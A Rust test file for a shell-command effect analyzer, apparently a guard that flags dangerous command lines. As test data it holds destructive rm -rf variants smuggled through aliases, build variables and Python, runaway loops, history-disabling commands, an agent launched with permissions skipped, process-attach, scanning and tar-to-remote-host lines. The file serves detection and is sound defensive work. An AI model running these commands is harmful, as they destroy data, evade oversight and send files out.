//! What is followed although nobody calls it by its own name: hooks, names in other letters, unknown wrappers.

use std::path::Path;

use super::read_command;
use crate::effects::{EffectKind, SendHow};
use crate::trail::Trail;
use crate::world::{Disk, World};

fn kinds(line: &str) -> Vec<EffectKind> {
    let (disk, trail) = (Disk::with_home("/home/someone".into()), Trail::default());
    let workspace = Path::new("/nonexistent/w");
    let world = World::new(&disk, &trail, workspace, workspace);
    read_command(line, None, &world).into_iter().map(|effect| effect.kind).collect()
}

fn deletes(line: &str) -> bool {
    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Delete { .. }))
}

fn exhausts(line: &str) -> bool {
    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Exhaust { .. }))
}

fn weakens(line: &str) -> bool {
    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Weaken { .. }))
}

fn opaque(line: &str) -> bool {
    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Opaque { .. }))
}

fn secret(line: &str) -> bool {
    kinds(line).iter().any(|kind| matches!(kind, EffectKind::Secret { .. }))
}

#[test]
fn an_alias_or_a_function_in_the_place_of_a_program_is_followed() {
    assert!(deletes("alias make='rm -rf /srv/x; command make'"));
    assert!(deletes("make() { rm -rf /srv/x; command make \"$@\"; }"));
    assert!(deletes("command_not_found_handle() { rm -rf /srv/x; }"));
    assert!(!deletes("cleanup() { rm -rf /srv/x; }"));
    assert!(!deletes("alias sweep-up='rm -rf /srv/x'"));
}

#[test]
fn a_command_behind_a_program_that_nobody_knows_is_followed() {
    assert!(deletes("runner-of-things rm -rf /srv/x"));
    assert!(!deletes("runner-of-things remove /srv/x"));
}

#[test]
fn a_name_in_other_letters_is_the_same_program() {
    assert!(deletes("RM -rf /srv/x"));
}

#[test]
fn a_loop_without_end_that_starts_more_uses_up_the_machine() {
    assert!(exhausts("while true; do work & done"));
    assert!(exhausts("until false; do work & done"));
    assert!(!exhausts("while true; do work & wait; done"));
    assert!(!exhausts("while true; do work; sleep 1; done"));
    assert!(!exhausts("while read line; do work & done"));
}

#[test]
fn the_record_of_commands_is_a_protection() {
    assert!(weakens("set +o history"));
    assert!(weakens("export HISTFILE=/dev/null"));
    assert!(!weakens("export HISTCONTROL=ignoreboth HISTSIZE=10000"));
}

#[test]
fn an_agent_that_is_started_without_approvals_is_told() {
    assert!(weakens("claude --dangerously-skip-permissions -p hello"));
    assert!(!weakens("claude -p hello"));
}

#[test]
fn letters_that_reorder_what_is_shown_are_told() {
    assert!(opaque("rm\u{202e} -rf x"));
    assert!(!opaque("echo שלום"));
}

#[test]
fn processes_that_are_looked_into_are_told() {
    for line in ["gdb -p 12", "strace -p 12", "gcore 12", "reptyr 12"] {
        assert!(secret(line), "{line}");
    }
    assert!(!secret("gdb ./program"));
}

#[test]
fn probing_a_machine_is_sending_to_it() {
    let probes = |line: &str| {
        kinds(line)
            .into_iter()
            .filter_map(|kind| match kind {
                EffectKind::Send { to, how: SendHow::Probe, .. } => Some(to.shown),
                _ => None,
            })
            .collect::<Vec<_>>()
    };
    assert_eq!(probes("nmap -sV 192.0.2.0/24"), ["192.0.2.0/24"]);
    assert_eq!(probes("gobuster dir -u http://target.example -w list.txt"), ["http://target.example"]);
    assert_eq!(probes("nmap --version"), [""; 0]);
}

#[test]
fn tar_takes_options_from_its_variable() {
    let sends = |line: &str| {
        kinds(line)
            .iter()
            .any(|kind| matches!(kind, EffectKind::Send { .. } | EffectKind::RunElsewhere { .. }))
    };
    assert!(sends("TAR_OPTIONS='--create --file=host.example:/x' tar -- notes.txt"));
    assert!(!sends("tar --create --file=x.tar notes.txt"));
}

#[test]
fn a_library_of_the_system_that_is_called_past_python_is_followed() {
    assert!(deletes("python3 -c \"import ctypes; ctypes.CDLL(None).system(b'rm -rf /srv/x')\""));
}

#[test]
fn variables_that_a_build_runs_are_followed() {
    for line in [
        "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='rm -rf /srv/x' cargo run",
        "make CC='rm -rf /srv/x;'",
        "make V='; rm -rf /srv/x'",
        "make V='$(shell rm -rf /srv/x)'",
        "IFS=, read -r a b <<< 'rm,-rf'; $a $b /srv/x",
        "tar -C /srv --remove-files -cf /dev/null x",
        "rm -rf $(ls -d /srv/x)",
    ] {
        assert!(deletes(line), "{line}");
    }
    for line in [
        "CARGO_TARGET_AARCH64_UNKNOWN_LINUX_GNU_LINKER=aarch64-linux-gnu-gcc cargo build",
        "make CC='ccache arm-none-eabi-gcc' CFLAGS='-O2 -g' ARGS='a && b'",
        "MAKEFLAGS=-j8 GOFLAGS=-mod=mod make",
    ] {
        assert!(!deletes(line) && !opaque(line), "{line}");
    }
    assert!(
        kinds("GOFLAGS=-toolexec=/tmp/x go build")
            .iter()
            .any(|kind| matches!(kind, EffectKind::Inject { .. }))
    );
}

#[test]
fn what_a_walk_finds_is_deleted_where_it_is_found() {
    for line in [
        "python3 -c 'import os; [os.remove(os.path.join(d, f)) for d, _, fs in os.walk(\"/srv/x\") for f in fs]'",
        "python3 -c 'import os\nfor d, _, fs in os.walk(\"/srv/x\"):\n  for f in fs: os.remove(d + \"/\" + f)'",
        "python3 -c 'import os\nfor e in os.scandir(\"/srv/x\"):\n  os.remove(e.path)'",
    ] {
        assert!(deletes(line), "{line}");
    }
    assert!(!deletes("python3 -c 'import os; [print(f) for d, _, fs in os.walk(\"/srv/x\") for f in fs]'"));
}

#[test]
fn a_module_path_into_the_workspace_injects_nothing() {
    let (disk, trail) = (Disk::with_home("/home/someone".into()), Trail::default());
    let workspace = Path::new("/tmp/nonexistent-workspace");
    let world = World::new(&disk, &trail, workspace, workspace);
    let injects = |line: &str| {
        read_command(line, None, &world).iter().any(|effect| matches!(effect.kind, EffectKind::Inject { .. }))
    };
    assert!(!injects("export PYTHONPATH=$PYTHONPATH:/tmp/nonexistent-workspace/src"));
    assert!(injects("export PYTHONPATH=/tmp/elsewhere"));
}

#[test]
fn here_documents_without_a_name_end_with_an_empty_line_or_the_text() {
    for nameless in ["''", "\"\"", "\r", "\u{c}"] {
        assert!(deletes(&format!("cat <<{nameless};rm -rf /srv/x <<y ")), "{nameless:?}");
        assert!(deletes(&format!("cat <<{nameless};rm -rf /srv/x ")), "{nameless:?}");
    }
    assert!(!deletes("cat <<'';cat <<y\nrm -rf /srv/x\n\nrm -rf /srv/x\ny"));
}

#[test]
fn what_the_parser_fails_on_is_not_understood() {
    let line = "rm $(rm <<E\n) ";
    assert!(kinds(line).iter().any(|kind| matches!(kind, EffectKind::Opaque { .. })));
}

#[test]
#[expect(clippy::disallowed_methods, reason = "the repository stands on the real disk")]
fn a_script_of_the_project_that_the_line_writes_anew_is_followed_as_it_will_be() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(folder.path().join("tools")).unwrap();
    std::fs::write(folder.path().join("tools/check.py"), "print(1)\n").unwrap();
    for arguments in [
        &["init", "-q"][..],
        &["add", "-A"],
        &[
            "-c",
            "user.name=T",
            "-c",
            "user.email=t@localhost",
            "-c",
            "commit.gpgsign=false",
            "commit",
            "-qm",
            "1",
        ],
    ] {
        let done =
            std::process::Command::new("git").args(arguments).current_dir(folder.path()).status().unwrap();
        assert!(done.success());
    }
    let (disk, trail) = (Disk::with_home("/home/someone".into()), Trail::default());
    let world = World::new(&disk, &trail, folder.path(), folder.path());
    let deletes = |line: &str| {
        let effects = read_command(line, None, &world);
        effects.iter().any(|effect| matches!(effect.kind, EffectKind::Delete { .. }))
    };
    assert!(!deletes("python3 tools/check.py"));
    assert!(deletes(
        "cat > tools/check.py <<'E'\nimport shutil\nshutil.rmtree('src')\nE\npython3 tools/check.py"
    ));
}

#[test]
#[expect(clippy::disallowed_methods, reason = "the folder stands on the real disk")]
fn a_folder_that_is_called_runs_nothing() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(folder.path().join("src")).unwrap();
    let (disk, trail) = (Disk::with_home("/home/someone".into()), Trail::default());
    let world = World::new(&disk, &trail, folder.path(), folder.path());
    let kinds = |line: &str| -> Vec<EffectKind> {
        read_command(line, None, &world).into_iter().map(|effect| effect.kind).collect()
    };
    assert!(kinds("./src").iter().all(|kind| matches!(kind, EffectKind::Observe)));
    let replaced = kinds("rm -r src; echo 'rm -rf /srv/x' > src; ./src");
    let lost =
        |kind: &EffectKind| matches!(kind, EffectKind::Delete { place, .. } if place.path.ends_with("srv/x"));
    assert!(replaced.iter().any(lost), "{replaced:?}");
}

#[test]
#[expect(clippy::disallowed_methods, reason = "the script stands on the real disk")]
fn what_a_line_changes_in_a_script_that_it_runs_is_followed_or_not_known() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("check.py"), "print(1)\n").unwrap();
    let (disk, trail) = (Disk::with_home("/home/someone".into()), Trail::default());
    let world = World::new(&disk, &trail, folder.path(), folder.path());
    let kinds = |line: &str| -> Vec<EffectKind> {
        read_command(line, None, &world).into_iter().map(|effect| effect.kind).collect()
    };
    let deletes = |line: &str| kinds(line).iter().any(|kind| matches!(kind, EffectKind::Delete { .. }));
    let opaque = |line: &str| kinds(line).iter().any(|kind| matches!(kind, EffectKind::Opaque { .. }));
    assert!(deletes("sed -i 's/print.*/import shutil; shutil.rmtree(\"src\")/' check.py; python3 check.py"));
    assert!(deletes("sed -i '1a import shutil; shutil.rmtree(\"src\")' check.py; python3 check.py"));
    assert!(!deletes("sed -i 's/print.*/print(2)/' check.py; python3 check.py"));
    assert!(!opaque("sed -i 's/print.*/print(2)/' check.py; python3 check.py"));
    assert!(opaque("perl -pi -e 's/print.*/import x/' check.py; python3 check.py"));
    assert!(!opaque("perl -pi -e 's/print.*/import x/' check.py"));
}
